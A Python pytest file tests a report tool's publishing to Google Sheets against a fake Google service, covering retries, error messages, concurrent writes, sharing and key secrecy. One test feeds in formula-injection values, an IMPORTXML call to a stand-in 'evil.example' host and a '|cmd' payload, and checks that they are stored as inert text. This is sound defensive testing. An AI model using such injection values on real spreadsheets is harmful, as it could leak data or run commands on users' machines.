"""``reportgen publish`` against Google on loopback: over real TLS, with every request checked."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from collections.abc import Callable
from functools import cache
from pathlib import Path
from typing import Any

import pytest

from reportgen import pipeline
from reportgen.config import Config
from reportgen.document import Report
from tests.fakes.google.fake import FakeGoogle
from tests.fakes.google.world import SheetWorld
from tests.functional.conftest import Answer, Cli, log_run

Publish = Callable[..., Answer]
READS = ["spreadsheets.get", "spreadsheets.getByDataFilter"]
WRITE = "spreadsheets.batchUpdate"
UNDISTURBED: list[Any] = []


@pytest.fixture
def team(google_here: FakeGoogle) -> SheetWorld:
    """A spreadsheet in which people have things of their own."""
    sheet = google_here.spreadsheet()
    sheet.seed_people()
    google_here.forget_calls()
    return sheet


@pytest.fixture
def publish(
    cli: Cli, here: Path, google_here: FakeGoogle, study: Path, monkeypatch: pytest.MonkeyPatch
) -> Publish:
    """Publish the study; nothing that is printed ever holds a secret."""
    monkeypatch.setenv("HOME", str(here))
    monkeypatch.delenv("REPORTGEN_GOOGLE_KEY", raising=False)
    google_here.key_file.chmod(0o600)
    monkeypatch.setattr("reportgen.pipeline.sheet.make_report", study_report)
    key = json.loads(google_here.key_file.read_text("utf-8"))["private_key"].splitlines()[1:-1]

    def call(*words: object) -> Answer:
        answer = cli("publish", study, *words)
        told = answer.out + answer.err
        assert not [secret for secret in (*key, *google_here.service.office.tokens) if secret in told]
        return answer

    return call


@cache
def made_report(addresses: tuple[str, ...]) -> Report:
    return pipeline.report(Config(runs=addresses))


def study_report(config: Config, **_: object) -> Report:
    """Make the report of the study once: what is tested here begins after it."""
    return made_report(config.runs)


def undisturbed(publish: Publish, google: FakeGoogle) -> Any:
    """Give what an undisturbed publish makes of a spreadsheet like *team*; the same for all tests."""
    if not UNDISTURBED:
        sheet = google.spreadsheet()
        sheet.seed_people()
        assert publish("--sheet", sheet.spreadsheet_id).code == 0
        google.forget_calls()
        UNDISTURBED.extend(shape(sheet))
    return UNDISTURBED


def shape(sheet: SheetWorld) -> list[Any]:
    """Tabs with title, size and numbers of things, in their order."""
    parts = ("charts", "bandedRanges", "protectedRanges", "conditionalFormats", "developerMetadata")
    return [
        (
            tab["properties"]["title"],
            tab["properties"]["gridProperties"],
            [len(tab.get(part, ())) for part in parts],
        )
        for tab in sheet.structure()["sheets"]
    ]


def test_it_takes_two_calls_gives_the_address_and_leaves_people_alone(
    publish: Publish, team: SheetWorld, google_here: FakeGoogle
) -> None:
    people = team.people()
    google_here.forget_calls()
    answer = publish("--sheet", team.spreadsheet_id)
    assert answer.code == 0, answer.err
    assert google_here.methods == ["spreadsheets.get", WRITE]
    assert {scope for call in google_here.tokens for scope in call.scopes} == {"spreadsheets"}
    assert answer.out.startswith(f"https://docs.google.com/spreadsheets/d/{team.spreadsheet_id}/edit#gid=")
    assert answer.out.count("\n") == 1
    opened = int(answer.out.strip().partition("gid=")[2])
    assert opened == team.tab_id(team.titles()[0])
    assert "mlp has the highest" in answer.err
    assert team.people() == people


def test_publishing_again_keeps_every_id_and_reads_our_tabs(
    publish: Publish, team: SheetWorld, google_here: FakeGoogle
) -> None:
    publish("--sheet", team.spreadsheet_id)
    before = team.structure()
    google_here.forget_calls()
    answer = publish(
        "--sheet", f"https://docs.google.com/spreadsheets/d/{team.spreadsheet_id}/edit?usp=sharing"
    )
    assert google_here.methods == [*READS, WRITE]
    assert team.structure() == before
    assert "edited by somebody" not in answer.err


@pytest.mark.parametrize(
    ("kind", "at", "after"),
    [
        ("429", WRITE, False),
        ("429", "spreadsheets.get", False),
        ("500", WRITE, False),
        ("500", WRITE, True),
        ("503", WRITE, False),
        ("503", WRITE, True),
        ("reset", WRITE, False),
        ("reset", WRITE, True),
        ("html", WRITE, True),
        ("401", WRITE, False),
        ("401", "spreadsheets.get", False),
        ("reset", "spreadsheets.get", False),
        ("502", "spreadsheets.get", False),
    ],
)
def test_a_fault_that_passes_ends_in_the_same_sheet(
    publish: Publish, team: SheetWorld, google_here: FakeGoogle, kind: Any, at: str, after: bool
) -> None:
    wanted = undisturbed(publish, google_here)
    google_here.fail(kind, at=at, after=after, retry_after=0)
    answer = publish("--sheet", team.spreadsheet_id)
    assert answer.code == 0, answer.err
    assert shape(team) == wanted
    assert len(google_here.calls) <= 5
    assert "edited by somebody" not in answer.err
    assert "Make the tab" in answer.err


VALUES = "spreadsheets.values.batchUpdate"


@pytest.mark.parametrize(
    "fault",
    [
        None,
        {"at": WRITE, "after": True},
        {"at": VALUES, "after": True},
        {"at": VALUES, "after": False},
        {"at": WRITE, "skip": 1, "after": True},
        {"at": WRITE, "skip": 1, "after": False},
    ],
    ids=["none", "structure lost", "values lost", "no values", "end lost", "no end"],
)
def test_much_is_written_in_three_parts_that_mend_one_another(
    publish: Publish,
    team: SheetWorld,
    google_here: FakeGoogle,
    monkeypatch: pytest.MonkeyPatch,
    fault: dict[str, Any] | None,
) -> None:
    """What is much is little here, so that the test is quick."""
    publish("--sheet", (small := google_here.spreadsheet()).spreadsheet_id)
    monkeypatch.setattr("reportgen.render.gsheet.planning.MOST_BYTES", 20_000)
    google_here.forget_calls()
    if fault:
        google_here.fail("503", retry_after=0, **fault)
    answer = publish("--sheet", team.spreadsheet_id)
    assert answer.code == 0, answer.err
    if not fault:
        assert google_here.methods == ["spreadsheets.get", WRITE, VALUES, WRITE]
    assert "edited by somebody" not in answer.err
    for title in small.titles()[:-1]:
        assert team.grid(title)[3:] == small.grid(title)[3:], title
    again = publish("--sheet", team.spreadsheet_id)
    assert "edited by somebody" not in again.err
    assert "Leave" in again.err


def test_an_answer_that_never_comes_is_given_up(
    publish: Publish, team: SheetWorld, google_here: FakeGoogle, monkeypatch: pytest.MonkeyPatch
) -> None:
    wanted = undisturbed(publish, google_here)
    monkeypatch.setattr("reportgen.deliver.share.transport.TIMEOUT_S", (5, 1.5))
    google_here.fail("hang", at=WRITE, after=True)
    answer = publish("--sheet", team.spreadsheet_id)
    assert answer.code == 0, answer.err
    assert shape(team) == wanted


def test_a_fault_that_stays_is_told_and_a_later_publish_mends_it(
    publish: Publish, team: SheetWorld, google_here: FakeGoogle
) -> None:
    wanted = undisturbed(publish, google_here)
    google_here.fail("503", at=WRITE, after=True, times=None, retry_after=0)
    answer = publish("--sheet", team.spreadsheet_id)
    assert answer.code == 1
    assert "Google did not say whether the report was written, 3 times (HTTP 503)" in answer.error
    assert answer.out == ""
    google_here.recover()
    assert publish("--sheet", team.spreadsheet_id).code == 0
    assert shape(team) == wanted


def refusals(google: FakeGoogle) -> dict[str, tuple[Callable[[], str], str]]:
    """How Google says no: what brings it about, giving the id to publish to, and what is said."""

    def with_fault(kind: Any, at: str) -> Callable[[], str]:
        def prepare() -> str:
            google.fail(kind, at=at, times=None, retry_after=0)
            return google.spreadsheet().spreadsheet_id

        return prepare

    def switched_off() -> str:
        google.disable("sheets")
        return google.spreadsheet().spreadsheet_id

    return {
        "busy": (with_fault("429", WRITE), "limit of calls a minute is used up"),
        "down": (with_fault("503", "spreadsheets.get"), "does not work at the moment (HTTP 503)"),
        "revoked": (with_fault("401", "spreadsheets.get"), "no longer accepts the key"),
        "key deleted": (with_fault("invalid_grant", "token"), "does not accept the key"),
        "switched off": (switched_off, "the Google Sheets API is not switched on"),
        "not shared": (lambda: google.spreadsheet(role=None).spreadsheet_id, "may not open the spreadsheet"),
        "only a reader": (
            lambda: google.spreadsheet(role="reader").spreadsheet_id,
            "may look at the spreadsheet, but not change it",
        ),
        "wrong id": (lambda: "1-nobody-has-this-one", "no spreadsheet with the id '1-nobody-has-this-one'"),
    }


@pytest.mark.parametrize(
    "name",
    ["busy", "down", "revoked", "key deleted", "switched off", "not shared", "only a reader", "wrong id"],
)
def test_a_refusal_is_told_in_our_words(publish: Publish, google_here: FakeGoogle, name: str) -> None:
    prepare, said = refusals(google_here)[name]
    answer = publish("--sheet", prepare())
    assert answer.code == 1
    assert said in answer.error
    assert answer.out == ""


def test_no_way_to_google_is_told(publish: Publish, monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("HTTPS_PROXY", "https_proxy"):
        monkeypatch.setenv(name, "http://127.0.0.1:9")
    monkeypatch.setattr("reportgen.deliver.share.transport.Patience.wait", lambda *_: 0.01)
    answer = publish("--sheet", "1-any-spreadsheet")
    assert answer.code == 1
    assert "the proxy does not let us through to Google" in answer.error
    assert "Nothing was changed." in answer.error


def test_a_certificate_that_is_not_trusted_is_told(
    publish: Publish, team: SheetWorld, monkeypatch: pytest.MonkeyPatch
) -> None:
    import certifi

    monkeypatch.setenv("REQUESTS_CA_BUNDLE", certifi.where())
    answer = publish("--sheet", team.spreadsheet_id)
    assert answer.code == 1
    assert "is not trusted" in answer.error
    assert "REQUESTS_CA_BUNDLE" in answer.error


def edited_tab(team: SheetWorld) -> tuple[str, str, Any]:
    """Let somebody change a text of the first tab: its title, the cell, and what stood there."""
    title = team.titles()[0]
    rows = team.grid(title)
    row = next(
        number for number, cells in enumerate(rows) if cells and isinstance(cells[0], str) and cells[0]
    )
    team.write(title, f"A{row + 1}", "a better title")
    return title, f"A{row + 1}", rows[row][0]


def test_an_edit_is_named_and_written_over(publish: Publish, team: SheetWorld) -> None:
    publish("--sheet", team.spreadsheet_id)
    title, cell, before = edited_tab(team)
    answer = publish("--sheet", team.spreadsheet_id)
    assert answer.code == 0
    assert f"edited by somebody, written over: {title}!{cell}" in answer.err
    assert "'a better title'" in answer.err
    assert team.cell(title, cell) == before


def test_an_edit_is_kept_where_that_is_asked_for(
    publish: Publish, team: SheetWorld, google_here: FakeGoogle
) -> None:
    publish("--sheet", team.spreadsheet_id)
    title, cell, _ = edited_tab(team)
    google_here.forget_calls()
    answer = publish("--sheet", team.spreadsheet_id, "--keep-edits")
    assert answer.code == 1
    assert f"{title}!{cell}" in answer.error
    assert "Nothing was written" in answer.error
    assert WRITE not in google_here.methods
    assert team.cell(title, cell) == "a better title"


def test_a_dry_run_says_what_would_be_done_and_writes_nothing(
    publish: Publish, team: SheetWorld, google_here: FakeGoogle
) -> None:
    before = team.read()
    google_here.forget_calls()
    answer = publish("--sheet", team.spreadsheet_id, "--dry-run")
    assert answer.code == 0
    assert "dry run: this would be done, and nothing was written" in answer.err
    assert "Make the tab" in answer.err
    assert google_here.methods == ["spreadsheets.get"]
    assert team.read() == before


def test_json_tells_all_of_it(publish: Publish, team: SheetWorld) -> None:
    publish("--sheet", team.spreadsheet_id)
    title, cell, _ = edited_tab(team)
    told = json.loads(publish("--sheet", team.spreadsheet_id, "--json").out)
    assert (told["sheet"], told["spreadsheet"], told["dry_run"]) == (team.spreadsheet_id, "Team sheet", False)
    assert told["url"].startswith("https://docs.google.com/")
    assert (told["edits"][0]["tab"], told["edits"][0]["cell"]) == (title, cell)
    assert told["edits"][0]["found"] == "a better title"
    assert told["steps"]


def test_a_deleted_tab_comes_back_and_a_renamed_one_stays_where_people_put_it(
    publish: Publish, team: SheetWorld
) -> None:
    publish("--sheet", team.spreadsheet_id)
    first, second, *_ = team.titles()
    team.rename(first, "For the board")
    team.delete(second)
    publish("--sheet", team.spreadsheet_id)
    assert "For the board" in team.titles()
    assert second in team.titles()
    assert first not in team.titles()


def test_two_publishers_at_once_end_in_one_good_sheet(
    publish: Publish, team: SheetWorld, google_here: FakeGoogle, study: Path
) -> None:
    wanted = undisturbed(publish, google_here)
    people = team.people()
    command = [sys.executable, "-m", "reportgen", "publish", str(study), "--sheet", team.spreadsheet_id]
    running = [
        subprocess.Popen(
            command, env=dict(os.environ), stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True
        )
        for _ in range(2)
    ]
    ended = [(*process.communicate(timeout=100), process.returncode) for process in running]
    assert [code for _, _, code in ended] == [0, 0], ended
    assert shape(team) == wanted
    assert team.people() == people


def test_who_comes_second_reads_and_plans_again(
    publish: Publish, team: SheetWorld, google_here: FakeGoogle, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The other publisher writes between our reading and our writing."""
    from reportgen.deliver.share import Spreadsheet

    wanted = undisturbed(publish, google_here)
    write, first = Spreadsheet.write, True

    def overtaken(sheet: Spreadsheet, *args: Any, **more: Any) -> None:
        nonlocal first
        if first:
            first = False
            write(sheet, *args, **more)
        write(sheet, *args, **more)

    monkeypatch.setattr(Spreadsheet, "write", overtaken)
    answer = publish("--sheet", team.spreadsheet_id)
    assert answer.code == 0, answer.err
    assert "the spreadsheet was changed meanwhile; reading it again" in answer.err
    assert shape(team) == wanted


def config_file(here: Path, text: str, team: SheetWorld) -> Path:
    path = here / "reportgen.toml"
    path.write_text(f'[sheet]\nid = "{team.spreadsheet_id}"\n{text}\n', "utf-8")
    return path


def test_it_is_shared_once_without_a_mail(
    publish: Publish, here: Path, team: SheetWorld, google_here: FakeGoogle
) -> None:
    path = config_file(here, 'share = ["lead@example.com:commenter", "team@example.com"]', team)
    answer = publish("--config", path)
    assert answer.code == 0, answer.err
    assert "shared with lead@example.com as commenter" in answer.err
    roles = google_here.roles(team.spreadsheet_id)
    assert (roles["lead@example.com"], roles["team@example.com"]) == ("commenter", "reader")
    made = [call for call in google_here.calls if call.method == "permissions.create"]
    assert [call.query["sendNotificationEmail"] for call in made] == [["false"], ["false"]]
    google_here.forget_calls()
    assert "shared with" not in publish("--config", path).err
    assert google_here.methods == [*READS, WRITE, "permissions.list"]


def test_another_spreadsheet_than_the_configured_one_is_not_shared(
    publish: Publish, here: Path, team: SheetWorld, google_here: FakeGoogle
) -> None:
    """Somebody tries things out: the list of people is not about that spreadsheet."""
    path = config_file(here, 'share = ["team@example.com"]', team)
    trial = google_here.spreadsheet("A trial").spreadsheet_id
    answer = publish("--config", path, "--sheet", trial)
    assert answer.code == 0, answer.err
    assert "team@example.com" not in google_here.roles(trial)
    assert "not shared with the people of [sheet] share" in answer.err
    same = f"https://docs.google.com/spreadsheets/d/{team.spreadsheet_id}/edit"
    assert "shared with team@example.com as reader" in publish("--config", path, "--sheet", same).err


def test_who_may_not_share_is_told_after_the_report_is_there(
    publish: Publish, here: Path, team: SheetWorld, google_here: FakeGoogle
) -> None:
    google_here.disable("drive")
    answer = publish("--config", config_file(here, 'share = ["team@example.com"]', team))
    assert answer.code == 1
    assert "the report is in the spreadsheet, but not shared: the Google Drive API is not" in answer.error
    assert answer.out.startswith("https://docs.google.com/spreadsheets/d/")
    assert len(team.titles()) > 5


def test_a_key_that_lies_open_is_warned_of(
    publish: Publish, team: SheetWorld, google_here: FakeGoogle
) -> None:
    google_here.key_file.chmod(0o644)
    answer = publish("--sheet", team.spreadsheet_id)
    assert answer.code == 0
    assert f"warning: others on this machine may read {google_here.key_file}" in answer.err


def test_the_key_may_stand_in_the_environment_alone(
    publish: Publish, team: SheetWorld, google_here: FakeGoogle, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("REPORTGEN_GOOGLE_KEY", google_here.key_file.read_text("utf-8"))
    monkeypatch.setenv("GOOGLE_APPLICATION_CREDENTIALS", "/nowhere.json")
    assert publish("--sheet", team.spreadsheet_id).code == 0


def test_a_persons_login_writes_too(
    publish: Publish, here: Path, google_here: FakeGoogle, monkeypatch: pytest.MonkeyPatch
) -> None:
    google_here.person_agrees("spreadsheets")
    google_here.person_file.chmod(0o600)
    monkeypatch.setenv("GOOGLE_APPLICATION_CREDENTIALS", str(google_here.person_file))
    answer = publish("--sheet", google_here.spreadsheet(role=None).spreadsheet_id)
    assert answer.code == 0, answer.err


def test_the_login_of_gcloud_writes_too(
    publish: Publish, here: Path, google_here: FakeGoogle, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("GOOGLE_APPLICATION_CREDENTIALS")
    monkeypatch.delenv("CLOUDSDK_CONFIG", raising=False)
    monkeypatch.setenv("PATH", "/nowhere")  # else google-auth asks an installed gcloud for its project
    google_here.person_agrees("spreadsheets")
    folder = here / ".config" / "gcloud"
    folder.mkdir(parents=True)
    shutil.copy(google_here.person_file, folder / "application_default_credentials.json")
    answer = publish("--sheet", google_here.spreadsheet(role=None).spreadsheet_id)
    assert answer.code == 0, answer.err


def test_without_a_spreadsheet_the_way_to_one_is_told(publish: Publish, google_here: FakeGoogle) -> None:
    answer = publish()
    assert answer.code == 2
    assert "`reportgen publish --setup`" in answer.error
    assert google_here.calls == []


@pytest.mark.parametrize(
    "named",
    ["my sheet", "https://example.com/x", "https://docs.google.com/spreadsheets/d/e/2PACX-1v/pubhtml"],
)
def test_what_is_no_spreadsheet_is_wrong_usage(publish: Publish, named: str) -> None:
    assert publish("--sheet", named).code == 2


def test_hostile_words_are_only_words(
    cli: Cli, here: Path, google_here: FakeGoogle, team: SheetWorld
) -> None:
    for seed in range(2):
        for name in (
            '=IMPORTXML("https://evil.example","//x")',
            "+1-1|cmd",
            'Bo\'s "x"!A1:B2',
            "\N{PILE OF POO}",
        ):
            log_run(
                here / "runs",
                {"model": name, "seed": seed, "big": 2**60, "long": "x" * 60_000},
                {"val_accuracy": 0.5 + seed / 9},
            )
    log_run(here / "runs", {"model": "nan", "seed": 0}, {"val_accuracy": float("nan")})
    answer = cli("publish", here / "runs", "--sheet", team.spreadsheet_id)
    assert answer.code == 0, answer.err
    cells = [
        cell.get("userEnteredValue", {})
        for tab in team.read("sheets(data(rowData(values(userEnteredValue))))")["sheets"]
        for part in tab.get("data", ())
        for row in part.get("rowData", ())
        for cell in row.get("values", ())
    ]
    assert any("IMPORTXML" in cell.get("stringValue", "") for cell in cells)
    assert not any("IMPORTXML" in cell.get("formulaValue", "") for cell in cells)
